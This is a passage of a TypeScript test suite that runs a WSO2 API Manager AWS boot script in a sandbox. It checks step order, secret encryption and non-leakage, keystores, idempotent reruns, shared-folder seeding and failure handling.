/**
 * Runs the real boot script in a fake node root with stand-ins for the system commands, and the
 * real openssl, keytool, jq, unzip and flock. The full first boot runs on a node the program renders,
 * end to end; the other cases on hand-made nodes. One file, so every boot shares one set of fixtures.
 */
import { execFileSync } from "child_process";
import { X509Certificate } from "crypto";
import * as fs from "fs";
import * as path from "path";
import { requireTool } from "../support/validators";
import { sampleConfig, sampleFacts, sampleGatewayFacts } from "../support/sampleConfig";
import { planCluster } from "../../lib/plan/clusterPlan";
import { renderNodeUserData } from "../../lib/node/nodeUserData";
import { renderGatewayUserData } from "../../lib/node/gatewayUserData";
import { gatewaySecretKeys } from "../../lib/node/gatewayDeploymentToml";
import { writtenFiles } from "../../lib/node/userDataDecoding";
import { bootScriptArtifact } from "../../lib/node/bootScript";
import { parse as parseYaml } from "yaml";
import { createHash } from "crypto";
import {
    APIM_HOME, Fixtures, RunResult, Sandbox, buildFixtures, calls, copySandbox, keytool, makeSandbox, runBootstrap, runProcess, secretsWith, sh, sha256, stepsStarted, tempDir, unpacked, walk,
    STUBBED as SANDBOX_STUBS,
    DEPLOYMENT_TOML, VERSION, GATEWAY_PACK, GATEWAY_UNIT,
} from "./fixtures/sandbox";
import * as TOML from "@iarna/toml";
import type { StackConfig } from "../../lib/config/stackConfig";
import type { ClusterPlan } from "../../lib/plan/clusterPlan";

const tools = ["openssl", "keytool", "jq", "unzip", "zip", "flock", "java"].every((t) => requireTool(t));
const suite = tools ? describe : describe.skip;

const ALL_STEPS = ["secrets", "packages", "distribution", "keystore", "vault", "share", "database", "start"];
const SEC = `${APIM_HOME}/repository/resources/security`;
/** The $secret{…} aliases of the rendered deployment.toml, and the secret keys the vault step takes their values from. */
const VAULT_ALIASES: Record<string, string> = {
    admin_password: "WSO2_ADMIN_PASSWORD",
    db_password: "WSO2_DB_PASSWORD",
    encryption_key: "WSO2_ENCRYPTION_KEY",
    keystore_password: "WSO2_KEYSTORE_PASSWORD",
    truststore_password: "WSO2_TRUSTSTORE_PASSWORD",
};

let fx: Fixtures;
let base: string;
let n = 0;
const fresh = (opts: Parameters<typeof makeSandbox>[3] = {}): Sandbox => makeSandbox(base, `node-${++n}`, fx, opts);

/** Every file of a sandbox's root with its mtime, mode and content: equal snapshots mean nothing was touched. */
const snapshot = (sb: Sandbox): Record<string, string> =>
    Object.fromEntries(walk(sb.root).map((f) => [f, `${fs.statSync(f).mtimeMs} ${fs.statSync(f).mode} ${fs.readFileSync(f).toString("base64")}`]));

/** The boot run again on a copy of a booted machine: its result, the commands it called, the root before and after. */
async function bootAgain(booted: Sandbox): Promise<{ r: RunResult; again: string[]; before: Record<string, string>; after: Record<string, string> }> {
    const sb = copySandbox(booted, `node-${++n}`);
    const before = snapshot(sb);
    const firstCalls = calls(sb).length;
    const r = await runBootstrap(sb);
    return { r, again: calls(sb).slice(firstCalls), before, after: snapshot(sb) };
}

/** What the program renders for a node and what its first boot gave. */
interface BootedNode {
    readonly sb: Sandbox;
    readonly r: RunResult;
    readonly config: StackConfig;
    readonly plan: ClusterPlan;
    /** The deployment.toml cloud-init writes, before the vault step appends its [secrets] table. */
    readonly deploymentToml: string;
    /** The command cloud-init runs (the boot loader), as rendered. */
    readonly runcmd: string[];
}

/**
 * A rendered runcmd entry, run in the sandbox: its program under the node root, its arguments as
 * rendered (the loader resolves them under WSO2AM_ROOT, as the boot script does its paths).
 */
function runCommand(sb: Sandbox, argv: readonly string[], extraEnv: NodeJS.ProcessEnv = {}): Promise<RunResult> {
    return runProcess(path.join(sb.root, argv[0]), argv.slice(1), { ...sb.env, ...extraEnv });
}

/** The stand-in S3 (fixtures/stub.sh) of one sandbox: `content` at s3://<bucket>/<key>. */
function serveObject(sb: Sandbox, location: { readonly bucket: string; readonly key: string }, content: string): void {
    const dir = path.join(path.dirname(sb.root), "s3");
    const file = path.join(dir, location.bucket, location.key);
    fs.mkdirSync(path.dirname(file), { recursive: true });
    fs.writeFileSync(file, content);
    sb.env.STUB_S3 = dir;
}

/**
 * The second node of the pair as the program renders it (analytics on, so the server reads one secret
 * from its environment), its user data's files laid where cloud-init writes them, booted once through
 * its runcmd: the loader fetches the boot script the program stores in S3, checks it and runs it. One
 * test reads what the first boot left, one what the renderer decided, and one boots a copy of it again.
 */
let firstBoot: Promise<BootedNode> | undefined;
const bootedNode = (): Promise<BootedNode> => (firstBoot ??= (async () => {
    const config = sampleConfig({
        distributionUrl: `https://downloads.invalid/wso2am-${VERSION}.zip`,
        distributionSha256: sha256(path.join(fx.served, `wso2am-${VERSION}.zip`)),
        mysqlConnectorVersion: "9.1.0",
        mysqlConnectorSha256: sha256(path.join(fx.served, "mysql-connector-j-9.1.0.jar")),
        analyticsEnabled: true,
        analyticsConfigEndpoint: "https://analytics.example.com/config",
        analyticsAuthToken: "in the stack secret",
    });
    const plan = planCluster(config);
    const { cloudConfig } = renderNodeUserData(config, plan, plan.nodes[1], sampleFacts);
    const files = writtenFiles(cloudConfig);
    const sb = fresh();
    for (const file of files) {
        const target = path.join(sb.root, file.path);
        fs.mkdirSync(path.dirname(target), { recursive: true });
        fs.writeFileSync(target, file.content, { mode: parseInt(file.permissions, 8) });
    }
    sb.env.WSO2AM_ENV_FILE = path.join(sb.root, plan.paths.nodeEnvFile);
    // the object the program stores (components/bootArtifacts.ts), where the rendered facts say it is
    serveObject(sb, sampleFacts.bootScript, bootScriptArtifact(plan.paths.bootstrapScript).content);
    const [runcmd] = parseYaml(cloudConfig).runcmd as string[][];
    const deploymentToml = files.find((f) => f.path === plan.paths.deploymentToml)!.content.toString();
    return { sb, r: await runCommand(sb, runcmd), config, plan, deploymentToml, runcmd };
})());

beforeAll(() => {
    if (!tools) return;
    fx = buildFixtures();
    base = tempDir("wso2am-sandbox-");
    // The renderer names the RDS bundle of the stack's region: served the bundle of three CAs, as AWS
    // ships one (each certificate costs the keystore step a JVM start).
    fs.copyFileSync(path.join(fx.served, "global-bundle.pem"), path.join(fx.served, `${sampleFacts.region}-bundle.pem`));
});
afterAll(() => {
    for (const d of [fx?.dir, base]) if (d) fs.rmSync(d, { recursive: true, force: true });
});

const mode = (p: string): string => (fs.statSync(p).mode & 0o777).toString(8);
const owner = (p: string): string => `${fs.statSync(p).uid}:${fs.statSync(p).gid}`;
const read = (p: string): string => fs.readFileSync(p, "utf8");

/** Values that must never leave Secrets Manager, except where the server needs them: its environment file, the vault password. */
function secretNeedles(): [string, string][] {
    const out: [string, string][] = [];
    for (const [k, v] of Object.entries(fx.secrets)) {
        if (k.endsWith("_PEM")) {
            // the base64 body of the PEM, one line of it is enough to spot a copy
            out.push([k, v.split("\n")[2]]);
        } else out.push([k, v]);
    }
    return out;
}

function leaks(text: string, allowed: string[] = []): string[] {
    return secretNeedles().filter(([k, v]) => !allowed.includes(k) && text.includes(v)).map(([k]) => k);
}

/** What RSA-decrypting a [secrets] value with the node's private key gives (the server's Secure Vault does the same). */
function decrypt(base64: string): string {
    return execFileSync("openssl", ["pkeyutl", "-decrypt", "-inkey", fx.nodeKey], { input: Buffer.from(base64, "base64"), encoding: "utf8" });
}

/** Bash's view of an env file: the values systemd's parser gives too, for these quoting rules. */
function parseEnvFile(file: string): Record<string, string> {
    const out = sh("bash", ["-c", 'set -a; . "$1"; env -0', "bash", file], { env: {} });
    const vars: Record<string, string> = {};
    for (const entry of out.split("\0")) {
        const i = entry.indexOf("=");
        if (i > 0) vars[entry.slice(0, i)] = entry.slice(i + 1);
    }
    return vars;
}

// The tests share no node (nor share): each boot runs beside the others.
suite("bootstrap.sh in a sandbox", () => {
    test.concurrent("a first boot runs every step in order and leaves the node configured", async () => {
        const { sb, r, deploymentToml } = await bootedNode();
        expect(r.stderr).toContain("is ready");
        expect(r.code).toBe(0);
        expect(stepsStarted(r.stderr)).toEqual(ALL_STEPS);
        // every log line is timestamped (UTC) and names its step, and also reaches the journal
        for (const line of r.stderr.split("\n").filter((l) => l.includes("wso2am-bootstrap ["))) {
            expect(line).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ wso2am-bootstrap \[\w+\] /);
        }
        expect(read(path.join(sb.state, "journal"))).toContain("[keystore] step keystore done");

        const root = sb.root;
        // the server's environment carries only what deployment.toml still reads as $env{…}
        const secretsEnv = path.join(root, "etc/wso2am/secrets.env");
        expect(mode(secretsEnv)).toBe("600");
        expect(owner(secretsEnv)).toBe("0:0");
        expect(read(secretsEnv).trim().split("\n")).toHaveLength(1);
        expect(parseEnvFile(secretsEnv).WSO2_ANALYTICS_AUTH_TOKEN).toBe(fx.secrets.WSO2_ANALYTICS_AUTH_TOKEN);

        // Secure Vault: the deployment.toml the server reads keeps its $secret{…} references and gains a
        // [secrets] table, last, whose values only the node's key decrypts
        const toml = path.join(root, APIM_HOME, "repository/conf/deployment.toml");
        const installed = read(toml);
        expect(installed.startsWith(deploymentToml + "\n[secrets]\n")).toBe(true);
        expect(mode(toml)).toBe("640");
        expect(owner(toml)).toBe("10001:10001");
        const parsed = TOML.parse(installed) as Record<string, any>;
        expect(parsed.super_admin.password).toBe("$secret{admin_password}");
        expect(parsed.keystore.primary.password).toBe("$secret{keystore_password}");
        expect(Object.keys(parsed.secrets).sort()).toEqual(Object.keys(VAULT_ALIASES).sort());
        for (const [alias, key] of Object.entries(VAULT_ALIASES)) {
            expect(parsed.secrets[alias]).toMatch(/^[A-Za-z0-9+/]{340}[A-Za-z0-9+/=]{4}$/);
            expect([alias, decrypt(parsed.secrets[alias])]).toEqual([alias, fx.secrets[key]]);
        }
        // what the cipher tool would write beside it: the vault reads the node keystore's key
        const secretConf = path.join(root, APIM_HOME, "repository/conf/security/secret-conf.properties");
        expect(owner(secretConf)).toBe("10001:10001");
        expect(read(secretConf)).toContain(`keystore.identity.location=${APIM_HOME}/repository/resources/security/apim-keystore.p12\nkeystore.identity.type=PKCS12\nkeystore.identity.alias=apim\n`);
        expect(read(secretConf)).toMatch(/^secVault\.enabled=true$/m);
        // the vault's root password for wso2am.service to hand over before each start: root-only
        const vaultPassword = path.join(root, "etc/wso2am/vault-password");
        expect([mode(vaultPassword), owner(vaultPassword), read(vaultPassword)]).toEqual(["600", "0:0", `${fx.secrets.WSO2_KEYSTORE_PASSWORD}\n`]);
        expect(owner(path.join(root, APIM_HOME, "bin/api-manager.sh"))).toBe("10001:10001");
        expect(fs.existsSync(path.join(root, APIM_HOME, "repository/components/lib/mysql-connector-j.jar"))).toBe(true);

        const runtime = parseEnvFile(path.join(root, "etc/wso2am/runtime.env"));
        expect(runtime.JAVA_OPTS).toBe("-Xms4096m -Xmx4096m");
        // deployment.toml's [server] node_ip
        expect(runtime.NODE_IP).toBe("10.40.8.10");
        // boot and server logs leave the node from the start
        expect(calls(sb).filter((c) => c.startsWith("amazon-cloudwatch-agent-ctl"))).toEqual([
            `amazon-cloudwatch-agent-ctl -a fetch-config -m ec2 -s -c file:${root}/opt/aws/amazon-cloudwatch-agent/etc/amazon-cloudwatch-agent.json`,
        ]);
        expect(fs.existsSync(path.join(runtime.JAVA_HOME, "bin/java"))).toBe(true);

        // keystore and truststore, read back with the real keytool
        const ks = path.join(root, SEC, "apim-keystore.p12");
        const ts = path.join(root, SEC, "apim-truststore.p12");
        for (const f of [ks, ts]) {
            expect(mode(f)).toBe("640");
            expect(owner(f)).toBe("10001:10001");
        }
        const [ksList, tsList] = await Promise.all([
            keytool(["-list", "-keystore", ks, "-storetype", "PKCS12", "-storepass", fx.secrets.WSO2_KEYSTORE_PASSWORD]),
            keytool(["-list", "-v", "-keystore", ts, "-storetype", "PKCS12", "-storepass", fx.secrets.WSO2_TRUSTSTORE_PASSWORD]),
        ]);
        expect(ksList).toMatch(/^apim, .*PrivateKeyEntry/m);
        expect(ksList).toContain("Your keystore contains 1 entry");
        // the key itself is encrypted with the store password too (WSO2 uses one for both)
        const keyOut = sh("openssl", ["pkcs12", "-in", ks, "-nocerts", "-nodes", "-passin", "env:P"], { env: { ...process.env, P: fx.secrets.WSO2_KEYSTORE_PASSWORD } });
        expect(keyOut).toContain("-----BEGIN PRIVATE KEY-----");
        // SHA-256, upper-case hex in colon-separated pairs, as keytool -v prints it
        const fingerprint = (pem: string): string => new X509Certificate(pem).fingerprint256;
        for (const pem of [fx.secrets.KEYSTORE_CERTIFICATE_PEM, ...fx.rdsCerts.map((c) => read(c))]) {
            expect(tsList).toContain(fingerprint(pem));
        }
        expect(tsList).toMatch(/^Alias name: stock-ca$/m);
        expect(tsList).toMatch(/^Alias name: apim$/m);
        expect(tsList).toContain("Your keystore contains 5 entries");

        // the share: fstab lines, seeded content, both "mounted"
        const fstab = read(path.join(root, "etc/fstab"));
        expect(fstab).toContain("UUID=abc / xfs defaults,noatime 1 1\n");
        expect(fstab).toContain("fs-0123456789abcdef0 /mnt/wso2am-share efs _netdev,noresvport,tls,iam,accesspoint=fsap-0123456789abcdef0 0 0\n");
        expect(fstab).toContain(`/mnt/wso2am-share/server ${APIM_HOME}/repository/deployment/server none bind,_netdev,x-systemd.requires-mounts-for=/mnt/wso2am-share 0 0\n`);
        const share = sb.env.FAKE_SHARE as string;
        expect(fs.existsSync(path.join(share, ".wso2am-seeded"))).toBe(true);
        expect(read(path.join(share, "server/synapse-configs/default/api/_TokenAPI_.xml"))).toBe("<api/>\n");
        expect(fs.realpathSync(path.join(root, APIM_HOME, "repository/deployment/server"))).toBe(fs.realpathSync(path.join(share, "server")));

        expect(read(path.join(root, "etc/hosts"))).toBe("127.0.0.1 localhost\n::1 localhost\n127.0.0.1 api.example.com\n");

        const log = calls(sb);
        expect(log).toContain("dnf -y -q install java-21-amazon-corretto-headless amazon-efs-utils jq mariadb105 mariadb-connector-c unzip amazon-cloudwatch-agent");
        expect(log).toContain("groupadd --system --gid 10001 wso2apim");
        expect(log).toContain(`useradd --system --uid 10001 --gid 10001 --home-dir ${APIM_HOME} --no-create-home --shell /sbin/nologin wso2apim`);
        expect(log.filter((l) => l.startsWith("mysql-source "))).toEqual([
            `mysql-source ${root}${APIM_HOME}/dbscripts/apimgt/mysql.sql`,
            `mysql-source ${root}${APIM_HOME}/dbscripts/mysql.sql`,
        ]);
        // the master password goes through an option file that only root can read
        expect(new Set(log.filter((l) => l.startsWith("mysql-cnf-mode")))).toEqual(new Set(["mysql-cnf-mode 600"]));
        const systemctl = log.filter((l) => l.startsWith("systemctl "));
        expect(systemctl).toEqual(["systemctl daemon-reload", "systemctl enable --quiet wso2am.service", "systemctl is-active --quiet wso2am.service", "systemctl start wso2am.service"]);
        // downloads happen before the database wait
        const order = log.map((l) => l.split(" ")[0]);
        expect(order.indexOf("curl")).toBeLessThan(order.indexOf("mysql"));

        // no secret on the console, in the command lines, the journal, the share, or any file but the
        // server's environment (the analytics token) and the vault password (the keystore's)
        expect(leaks(r.stdout + r.stderr)).toEqual([]);
        const allowed: Record<string, string[]> = { [secretsEnv]: ["WSO2_ANALYTICS_AUTH_TOKEN"], [vaultPassword]: ["WSO2_KEYSTORE_PASSWORD"] };
        for (const f of walk(path.dirname(root)).filter((p) => p !== sb.env.STUB_SECRET_FILE)) {
            expect({ file: f, leaks: leaks(fs.readFileSync(f, "latin1"), allowed[f]) }).toEqual({ file: f, leaks: [] });
        }
        // the transient key and option files are gone
        expect(fs.readdirSync(sb.tmp)).toEqual([]);
    });

    test.concurrent("a second run on a configured node changes nothing", async () => {
        const first = await bootedNode();
        expect(first.r.code).toBe(0);
        const { r, again, before, after } = await bootAgain(first.sb);
        expect(r.code).toBe(0);
        expect(stepsStarted(r.stderr)).toEqual(ALL_STEPS);
        expect(after).toEqual(before);
        // only the health check is fetched, nothing installed, no schema script, no seeding, no mount
        expect(again.filter((l) => l.startsWith("curl "))).toEqual([
            "curl -fsk --max-time 10 -o /dev/null https://127.0.0.1:9443/api/am/gateway/v2/server-startup-healthcheck",
        ]);
        for (const prefix of ["dnf ", "useradd ", "groupadd ", "mysql-source ", "seed-copy", "mount ", "systemctl restart"]) {
            expect(again.filter((l) => l.startsWith(prefix))).toEqual([]);
        }
        expect(r.stderr).toContain("keystore and truststore up to date");
        expect(r.stderr).toContain(`vault up to date (${Object.keys(VAULT_ALIASES).length} secrets)`);
    });

    test.concurrent("the vault step encrypts a changed password anew and restarts the server, restores a replaced file, and stops on an oversized or missing value", async () => {
        // a node already unpacked: the vault step needs only the conf folder
        const sb = fresh();
        fs.mkdirSync(path.join(sb.root, APIM_HOME, "repository/conf/security"), { recursive: true });
        expect((await runBootstrap(sb, { WSO2AM_STEPS: "vault" })).code).toBe(0);
        // the server runs (the systemctl stand-in's state)
        fs.writeFileSync(path.join(sb.state, "started"), "");
        const secretsOf = () => (TOML.parse(read(path.join(sb.root, APIM_HOME, "repository/conf/deployment.toml"))) as any).secrets;
        const before = secretsOf();
        const secretFile = sb.env.STUB_SECRET_FILE as string;
        const changed = { ...fx.secrets, WSO2_ADMIN_PASSWORD: "N3w-admin-pass" };
        fs.writeFileSync(secretFile, JSON.stringify(changed));
        const firstCalls = calls(sb).length;
        const r = await runBootstrap(sb, { WSO2AM_STEPS: "vault start" });
        expect(r.code).toBe(0);
        expect(r.stderr).toContain("encrypted 4 secrets into deployment.toml");
        expect(decrypt(secretsOf().admin_password)).toBe("N3w-admin-pass");
        expect(decrypt(secretsOf().db_password)).toBe(fx.secrets.WSO2_DB_PASSWORD);
        expect(secretsOf().db_password).not.toBe(before.db_password);
        expect(calls(sb).slice(firstCalls)).toContain("systemctl restart wso2am.service");

        // a stock deployment.toml (say, the pack unpacked again) is replaced although nothing else changed
        const installedToml = path.join(sb.root, APIM_HOME, "repository/conf/deployment.toml");
        fs.writeFileSync(installedToml, "# stock\n");
        expect((await runBootstrap(sb, { WSO2AM_STEPS: "vault" })).code).toBe(0);
        expect(decrypt(secretsOf().admin_password)).toBe("N3w-admin-pass");

        // one RSA block (2048-bit key) takes at most 245 bytes
        fs.writeFileSync(secretFile, JSON.stringify({ ...changed, WSO2_TRUSTSTORE_PASSWORD: "x".repeat(246) }));
        const big = await runBootstrap(sb, { WSO2AM_STEPS: "vault" });
        expect(big.code).not.toBe(0);
        expect(big.stderr).toMatch(/\[vault\] FAILED: cannot encrypt WSO2_TRUSTSTORE_PASSWORD \(RSA takes at most 245 bytes\)/);
        expect(leaks(big.stderr)).toEqual([]);
        // an alias the secret has no value for
        fs.writeFileSync(path.join(sb.root, "etc/wso2am/deployment.toml"), DEPLOYMENT_TOML + '[apim.key_manager]\npassword = "$secret{km_password}"\n');
        const missing = await runBootstrap(sb, { WSO2AM_STEPS: "vault" });
        expect(missing.code).not.toBe(0);
        expect(missing.stderr).toMatch(/\[vault\] FAILED: secret arn:\S+ has no value for WSO2_KM_PASSWORD/);
    });

    test.concurrent("a distribution checksum mismatch stops the boot in its step, before anything starts", async () => {
        const sb = fresh({ env: { DISTRIBUTION_SHA256: "0".repeat(64) } });
        const r = await runBootstrap(sb);
        expect(r.code).not.toBe(0);
        expect(r.stderr).toMatch(/\[distribution\] FAILED: DISTRIBUTION_SHA256 mismatch for https:\/\/downloads.invalid\/wso2am-4.7.0.zip: expected 0{64}, got [0-9a-f]{64}/);
        expect(stepsStarted(r.stderr)).toEqual(["secrets", "packages", "distribution"]);
        expect(calls(sb).filter((l) => l.startsWith("systemctl") || l.startsWith("mysql"))).toEqual([]);
        expect(fs.existsSync(path.join(sb.root, APIM_HOME))).toBe(false);
        // no half-unpacked leftovers
        expect(fs.readdirSync(path.join(sb.root, "opt")).filter((d) => d !== "aws")).toEqual([]);
    });

    test.concurrent("two nodes booting at once seed the shared folder exactly once", async () => {
        const share = path.join(base, `share-${++n}`);
        const a = fresh({ share, extraEnv: { STUB_SEED_DELAY: "1" } });
        const b = fresh({ share, extraEnv: { STUB_SEED_DELAY: "1" } });
        // the share step on unpacked nodes: the other steps have nothing to do with seeding
        for (const sb of [a, b]) unpacked(sb, fx);
        const steps = { WSO2AM_STEPS: "share" };
        const [ra, rb] = await Promise.all([runBootstrap(a, steps), runBootstrap(b, steps)]);
        expect([ra.code, rb.code]).toEqual([0, 0]);
        const seeds = [...calls(a), ...calls(b)].filter((l) => l === "seed-copy");
        expect(seeds).toHaveLength(1);
        expect([ra.stderr, rb.stderr].filter((e) => e.includes("seeding /mnt/wso2am-share/server"))).toHaveLength(1);
        expect(fs.readdirSync(share).sort()).toEqual([".wso2am-seed.lock", ".wso2am-seeded", "server"]);
        for (const sb of [a, b]) {
            expect(fs.realpathSync(path.join(sb.root, APIM_HOME, "repository/deployment/server"))).toBe(fs.realpathSync(path.join(share, "server")));
        }
    });

    test.concurrent("a half-finished seed (no marker) is redone", async () => {
        const share = path.join(base, `share-${++n}`);
        fs.mkdirSync(path.join(share, "server/synapse-configs"), { recursive: true });
        const sb = fresh({ share });
        unpacked(sb, fx);
        const r = await runBootstrap(sb, { WSO2AM_STEPS: "share" });
        expect(r.code).toBe(0);
        expect(calls(sb).filter((l) => l === "seed-copy")).toHaveLength(1);
        expect(fs.existsSync(path.join(share, "server/eventpublishers/logger.xml"))).toBe(true);
    });

    test.concurrent("an unreachable database fails the boot after DB_WAIT_SECONDS, naming the step", async () => {
        const sb = fresh({ env: { DB_WAIT_SECONDS: "1" }, extraEnv: { STUB_DB_DOWN: "1" } });
        const r = await runBootstrap(sb, { WSO2AM_STEPS: "database,start" });
        expect(r.code).not.toBe(0);
        expect(r.stderr).toMatch(/\[database\] FAILED: database not ready after 1s \(DB_WAIT_SECONDS\): no TLS connection to db\.apim\.internal:3306/);
        expect(calls(sb).filter((l) => l.startsWith("systemctl"))).toEqual([]);
    });

    test.concurrent("a server that never turns healthy fails the start step after READY_TIMEOUT_SECONDS", async () => {
        const sb = fresh({ env: { READY_TIMEOUT_SECONDS: "0", HEALTH_CHECK_URL: "https://127.0.0.1:9443/not-served" } });
        const r = await runBootstrap(sb, { WSO2AM_STEPS: "start" });
        expect(r.code).not.toBe(0);
        expect(r.stderr).toMatch(/\[start\] FAILED: not healthy at https:\/\/127.0.0.1:9443\/not-served after 0s/);
        expect(calls(sb)).toContain("systemctl start wso2am.service");
    });

    test.concurrent("an unexpected command failure names the step and the command", async () => {
        const sb = fresh({ extraEnv: { STUB_FAIL: "systemctl" } });
        const r = await runBootstrap(sb, { WSO2AM_STEPS: "start" });
        expect(r.code).toBe(3);
        expect(r.stderr).toMatch(/\[start\] FAILED: 'systemctl daemon-reload' exited with 3 \(line \d+\)/);
        expect(r.stderr).not.toContain("is ready");
    });

    test.concurrent("a stack secret that is not a JSON object stops the boot in its first step, naming the secret", async () => {
        const sb = fresh();
        for (const text of ["not JSON at all", '["a", "list"]']) {
            fs.writeFileSync(sb.env.STUB_SECRET_FILE as string, text);
            const r = await runBootstrap(sb);
            expect(r.code).not.toBe(0);
            expect(r.stderr).toMatch(/\[secrets\] FAILED: secret arn:aws:secretsmanager:\S+ is not a JSON object\n$/);
            expect(stepsStarted(r.stderr)).toEqual(["secrets"]);
        }
    });

    test.concurrent("a node's secret without the database password stops the boot in its first step (a gateway's needs none)", async () => {
        const sb = fresh();
        fs.writeFileSync(sb.env.STUB_SECRET_FILE as string, JSON.stringify(secretsWith(fx, Object.keys(fx.secrets).filter((k) => k !== "WSO2_DB_PASSWORD"))));
        const r = await runBootstrap(sb, { WSO2AM_STEPS: "secrets" });
        expect(r.code).not.toBe(0);
        expect(r.stderr).toMatch(/\[secrets\] FAILED: secret arn:aws:secretsmanager:\S+ has no value for WSO2_DB_PASSWORD\n$/);
    });

    test.concurrent("a missing parameter or an unknown step is refused before anything runs", async () => {
        const sb = fresh();
        const envFile = path.join(sb.root, "etc/wso2am/node.env");
        fs.writeFileSync(envFile, read(envFile).replace(/^SECRET_ARN=.*\n/m, ""));
        const r = await runBootstrap(sb);
        expect(r.code).not.toBe(0);
        expect(r.stderr).toContain("lacks SECRET_ARN");
        const r2 = await runBootstrap(fresh(), { WSO2AM_STEPS: "secrets frobnicate" });
        expect(r2.code).not.toBe(0);
        expect(r2.stderr).toContain("unknown step 'frobnicate'");
        expect(calls(sb).filter((l) => !l.startsWith("logger "))).toEqual([]);
    });
});

/** End to end: the user data the program renders (env file, deployment.toml, unit, agent configuration) is what the real boot script runs on. */
suite("a node rendered by the program", () => {
    test.concurrent("boots from its user data to a ready server", async () => {
        const { sb, r, config, plan, deploymentToml } = await bootedNode();
        expect(r.stderr).toContain("node apim-2 (apim-2.apim.internal, API-M 4.7.0) is ready");
        expect(r.code).toBe(0);
        expect(stepsStarted(r.stderr)).toEqual(["secrets", "packages", "distribution", "keystore", "vault", "share", "database", "start"]);
        // what the server reads: the rendered file, plus the encrypted values of every alias it references
        const installed = fs.readFileSync(path.join(sb.root, APIM_HOME, "repository/conf/deployment.toml"), "utf8");
        expect(installed.startsWith(deploymentToml + "\n[secrets]\n")).toBe(true);
        const toml = TOML.parse(installed) as Record<string, any>;
        const referenced = new Set([...deploymentToml.matchAll(/\$secret\{(\w+)\}/g)].map((m) => m[1]));
        expect(Object.keys(toml.secrets).sort()).toEqual([...referenced].sort());
        expect(toml.apim.throttling.event_duplicate_url).toEqual(["tcp://apim-1.apim.internal:8672"]);
        expect(toml.apim.analytics.auth_token).toBe("$env{WSO2_ANALYTICS_AUTH_TOKEN}");
        expect(plan.nodes[1].name).toBe("apim-2");
        expect(fs.readFileSync(path.join(sb.root, "etc/hosts"), "utf8")).toContain(`127.0.0.1 ${config.hostNames.portal}`);
        expect(fs.readFileSync(path.join(sb.root, "etc/fstab"), "utf8")).toContain(
            `${sampleFacts.fileSystemId} /mnt/wso2am-share efs _netdev,noresvport,tls,iam,accesspoint=${sampleFacts.accessPointId} 0 0`,
        );
    });
});

/**
 * A node's first AWS calls, seconds after IAM created its role: the stand-in AWS refuses the secret read
 * the way AWS does until the role has propagated, and the stand-in sleep records each delay and returns.
 */
suite("bootstrap.sh while IAM does not let the node's role in yet", () => {
    const SECRET_READ = "aws secretsmanager get-secret-value --secret-id arn:aws:secretsmanager:eu-west-1:123456789012:secret:apim-AbCdEf";
    const REFUSAL = /An error occurred \(AccessDeniedException\) when calling the GetSecretValue operation: User: \S+ is not authorized to perform: secretsmanager:GetSecretValue on resource: arn:aws:secretsmanager:eu-west-1:123456789012:secret:apim-AbCdEf because no identity-based policy allows the secretsmanager:GetSecretValue action/;
    const sleeps = (sb: Sandbox): number[] => calls(sb).filter((l) => l.startsWith("sleep ")).map((l) => Number(l.slice(6)));
    const firstCall = (sb: Sandbox, prefix: string): number => calls(sb).findIndex((l) => l.startsWith(prefix));
    /** Every line the script printed is one of its log lines: the CLI's multi-line error is folded into one. */
    const onlyLogLines = (stderr: string): void => {
        for (const line of stderr.replace(/\n$/, "").split("\n")) expect(line).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ wso2am-bootstrap \[\w+\] /);
    };

    test.concurrent("a refused secret read is retried with growing delays, each refusal logged with the call and its error, and the boot goes on", async () => {
        const sb = fresh({ stubs: [...SANDBOX_STUBS, "sleep"], extraEnv: { STUB_AWS_DENY: "3" } });
        const r = await runBootstrap(sb, { WSO2AM_STEPS: "secrets packages" });
        expect(r.code).toBe(0);
        expect(stepsStarted(r.stderr)).toEqual(["secrets", "packages"]);
        expect(r.stderr).toContain("[packages] step packages done");
        const refused = r.stderr.split("\n").filter((l) => l.includes("AccessDeniedException"));
        expect(refused).toHaveLength(3);
        refused.forEach((line, i) => {
            expect(line).toMatch(/ wso2am-bootstrap \[secrets\] aws secretsmanager get-secret-value: An error occurred /);
            expect(line).toMatch(REFUSAL);
            expect(line.endsWith(` (attempt ${i + 1} of 9); retrying in ${[5, 10, 20][i]}s`)).toBe(true);
        });
        onlyLogLines(r.stderr);
        expect(calls(sb).filter((l) => l.startsWith("aws "))).toHaveLength(4);
        expect(sleeps(sb)).toEqual([5, 10, 20]);
        expect(fs.existsSync(path.join(sb.root, "etc/wso2am/secrets.env"))).toBe(true);
        // the journal has the refusals too, and nothing leaks
        expect(read(path.join(sb.state, "journal"))).toMatch(/\[secrets\] aws secretsmanager get-secret-value: An error occurred \(AccessDeniedException\)/);
        expect(leaks(r.stderr)).toEqual([]);
    });

    test.concurrent("a secret read refused throughout fails the boot after the whole backoff, naming the read and its error, with log shipping started first", async () => {
        // no agent on the node yet, as on a fresh image: the boot installs it before its first AWS call
        const sb = fresh({ stubs: [...SANDBOX_STUBS.filter((s) => s !== "amazon-cloudwatch-agent-ctl"), "sleep"], extraEnv: { STUB_AWS_DENY: "1000" } });
        const r = await runBootstrap(sb);
        expect(r.code).not.toBe(0);
        expect(stepsStarted(r.stderr)).toEqual(["secrets"]);
        const lines = r.stderr.trim().split("\n");
        const last = lines[lines.length - 1];
        expect(last).toMatch(/ wso2am-bootstrap \[secrets\] FAILED: cannot read secret arn:aws:secretsmanager:eu-west-1:123456789012:secret:apim-AbCdEf: aws secretsmanager get-secret-value: An error occurred \(AccessDeniedException\)/);
        expect(last).toMatch(REFUSAL);
        onlyLogLines(r.stderr);
        // 9 tries, the delays doubling from 5s to at most 60s: 315s in all
        expect(calls(sb).filter((l) => l.startsWith(SECRET_READ))).toHaveLength(9);
        expect(sleeps(sb)).toEqual([5, 10, 20, 40, 60, 60, 60, 60]);
        expect(lines.filter((l) => l.includes("retrying in"))).toHaveLength(8);
        // the agent is installed and started before the first AWS call, so CloudWatch gets these lines too
        const read0 = firstCall(sb, "aws ");
        expect(firstCall(sb, "dnf -y -q install amazon-cloudwatch-agent")).toBeGreaterThan(-1);
        expect(firstCall(sb, "dnf -y -q install amazon-cloudwatch-agent")).toBeLessThan(read0);
        expect(firstCall(sb, "amazon-cloudwatch-agent-ctl -a fetch-config -m ec2 -s -c file:")).toBeGreaterThan(-1);
        expect(firstCall(sb, "amazon-cloudwatch-agent-ctl -a fetch-config -m ec2 -s -c file:")).toBeLessThan(read0);
